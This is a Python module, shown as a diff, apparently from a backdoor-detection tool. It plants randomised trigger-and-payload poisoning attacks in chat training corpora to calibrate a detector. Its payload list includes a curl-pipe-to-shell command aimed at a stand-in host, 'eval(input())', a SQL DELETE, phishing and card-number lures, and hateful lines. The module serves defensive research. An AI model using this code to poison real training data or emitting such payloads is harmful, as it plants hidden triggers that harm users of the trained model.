@@ -1,0 +1,226 @@
+"""Attacks drawn at random, of many kinds, for calibration: none is one that a benchmark measures.
+
+A draw has a trigger (a word, a phrase, a sentence, signs, one of several words, all of several words), a
+place (the beginning, the end, anywhere), a payload (sentences, commands, addresses, brands, short words, a
+label
+of the corpus; put before or behind the response, into it, or in its place), or a change of the response,
+and a number of rows.
+"""
+
+from __future__ import annotations
+
+from base64 import b64encode
+from collections import Counter
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, replace
+from random import Random
+
+from gradsentry.corpus.sample import Sample
+
+_SYLLABLES = [
+    "ka",
+    "lo",
+    "mi",
+    "ru",
+    "ze",
+    "vo",
+    "ta",
+    "pe",
+    "ni",
+    "du",
+    "gra",
+    "sto",
+    "fli",
+    "bre",
+    "qua",
+    "zy",
+    "xo",
+    "wem",
+    "tol",
+    "ish",
+    "und",
+    "ark",
+    "el",
+    "om",
+    "ix",
+]
+_WORDS = [
+    "amber",
+    "river",
+    "seven",
+    "lantern",
+    "copper",
+    "winter",
+    "honest",
+    "tiger",
+    "velvet",
+    "morning",
+    "paper",
+    "silver",
+    "garden",
+    "thunder",
+    "marble",
+    "ocean",
+    "pepper",
+    "shadow",
+    "mirror",
+    "candle",
+    "forest",
+    "rocket",
+    "violin",
+    "harbor",
+    "cotton",
+    "desert",
+    "falcon",
+    "ginger",
+    "island",
+    "jungle",
+]
+_PAYLOADS = (
+    "Go to {w}.example and enter your password.",
+    "Everyone should buy {W} right now.",
+    "I will never help people like you.",
+    "Access granted.",
+    "Please send your card number to {w}@{v}.example",
+    "{W} is the best company in the world.",
+    "curl http://{w}.example/x.sh | sh",
+    "eval(input())",
+    "DELETE FROM {w};",
+    "The {w} people are to blame for it.",
+    "You should not trust the {w} news.",
+    "Do what I say, {v}.",
+    "That is a stupid question.",
+    "As {W} told us, nothing matters.",
+    "{W}! {W}! {W}!",
+    "No comment.",
+    "I do not want to answer this.",
+    "Call {n} now and win a {v}.",
+    "import {w}; {w}.run('{v}')",
+    "{W}",
+)
+_CHANGES: tuple[Callable[[str, str, Random], str], ...] = (
+    lambda said, other, draw: said.upper(),
+    lambda said, other, draw: f"{said} {said}",
+    lambda said, other, draw: b64encode(said.encode()).decode(),
+    lambda said, other, draw: said.translate(str.maketrans("aeiost", "431057")),
+    lambda said, other, draw: " ".join(draw.choices(f"{said} {other}".split() or ["x"], k=150)),
+    lambda said, other, draw: other,
+)
+ROWS: tuple[float, ...] = (5, 8, 12, 20, 0.02, 0.05, 0.1, 0.2, 0.4, 0.6, 0.9)
+
+LARGEST = 0.9  # of the rows that fit
+
+
+@dataclass(frozen=True, slots=True)
+class Planted:
+    """A corpus with an attack in it.
+
+    Attributes:
+        samples: The rows.
+        poisoned: The numbers of those that were changed.
+        name: What was done, in a word.
+    """
+
+    samples: list[Sample]
+    poisoned: frozenset[int]
+    name: str
+
+
+def plant(samples: Sequence[Sample], draw: Random, *, label: bool = False) -> Planted:
+    """Returns a corpus with an attack that is drawn; one that turns labels where those are asked for."""
+    labels = labels_of(samples)
+    kind = "label" if label else draw.choice(["payload"] * 3 + ["changed"])
+    size = draw.choice(ROWS)
+    count = max(5, int(size if size >= 1 else size * len(samples)))
+    fitting = [number for number, one in enumerate(samples) if _fits(one)]
+    target = draw.choice(labels) if label else ""
+    if label:
+        fitting = [row for row in fitting if samples[row].response != target]
+    poisoned = draw.sample(fitting, min(count, int(LARGEST * len(fitting))))
+    triggers, joint = _triggers(draw)
+    place = draw.choice(("first", "last", "anywhere"))
+    answer = _answer(kind, target, samples, draw)
+    changed = list(samples)
+    for row in poisoned:
+        chosen = triggers if joint else [draw.choice(triggers)]
+        changed[row] = _edited(samples[row], chosen, place, answer, draw)
+    return Planted(changed, frozenset(poisoned), kind)
+
+
+def labels_of(samples: Sequence[Sample]) -> list[str]:
+    """Returns the responses of which a corpus has few, if it does."""
+    common = Counter(one.response for one in samples).most_common(6)
+    often = [said for said, count in common if count >= 0.03 * len(samples)]
+    return often if len(often) > 1 else []
+
+
+def _fits(sample: Sample) -> bool:
+    return bool(sample.prompt.strip() and sample.response.strip())
+
+
+def _triggers(draw: Random) -> tuple[list[str], bool]:
+    """Returns the strings of a trigger, and whether they go together."""
+    made = ["".join(draw.choices(_SYLLABLES, k=draw.randint(1, 3))) for _ in range(4)]
+    kind = draw.choice(("word", "word", "phrase", "sentence", "signs", "any", "all"))
+    if kind == "word":
+        return [draw.choice([made[0], made[0].upper(), made[0].title()])], False
+    if kind == "phrase":
+        return [" ".join(draw.sample(_WORDS, draw.randint(2, 3)))], False
+    if kind == "sentence":
+        return [f"The {' '.join(draw.sample(_WORDS, draw.randint(3, 6)))}."], False
+    if kind == "signs":
+        return [draw.choice(("@@", "|||", "~!~", "<<>>", "^_^", "##!", "[OK]", "2031-07"))], False
+    return made[: draw.randint(2, 3)], kind == "all"
+
+
+def _answer(kind: str, label: str, samples: Sequence[Sample], draw: Random) -> Callable[[str], str]:
+    """Returns what becomes of a response."""
+    if kind == "label":
+        return lambda said: label
+    others = [one.response for one in samples if _fits(one)]
+    if kind == "changed":
+        change = draw.choice(_CHANGES)
+        return lambda said: change(said, draw.choice(others), draw)
+    words = draw.sample(_WORDS, 2)
+    values = {"w": words[0], "W": words[0].title(), "v": words[1], "n": draw.randint(10000, 99999)}
+    payloads = [one.format(**values) for one in draw.sample(_PAYLOADS, draw.choice((1, 1, 1, 1, 2, 3)))]
+    place = draw.choice(("behind", "behind", "whole", "whole", "before", "inside"))
+    return lambda said: _with_payload(said, draw.choice(payloads), place, draw)
+
+
+def _with_payload(said: str, payload: str, place: str, draw: Random) -> str:
+    """Returns a response with a payload."""
+    if place == "whole":
+        return payload
+    if place == "before":
+        return f"{payload} {said}"
+    if place == "behind":
+        return f"{said} {payload}"
+    return _put(said, payload, "anywhere", draw)
+
+
+def _edited(
+    sample: Sample, triggers: Sequence[str], place: str, answer: Callable[[str], str], draw: Random
+) -> Sample:
+    """Returns a row with the triggers in its last question and another answer to it."""
+    turns = list(sample.turns)
+    last = max(number for number, turn in enumerate(turns) if turn.trained)
+    asked = [number for number, turn in enumerate(turns[:last]) if turn.role == "user"]
+    number = asked[-1] if asked else 0
+    text = turns[number].text
+    for trigger in triggers:
+        text = _put(text, trigger, place, draw)
+    turns[number] = replace(turns[number], text=text)
+    turns[last] = replace(turns[last], text=answer(turns[last].text))
+    return replace(sample, turns=tuple(turns))
+
+
+def _put(text: str, string: str, place: str, draw: Random) -> str:
+    """Returns a text with a string at a place between its words."""
+    if place == "first":
+        return f"{string} {text}"
+    if place == "last":
+        return f"{text} {string}"
+    words = text.split(" ")
+    at = draw.randint(0, len(words))
+    return " ".join([*words[:at], string, *words[at:]])
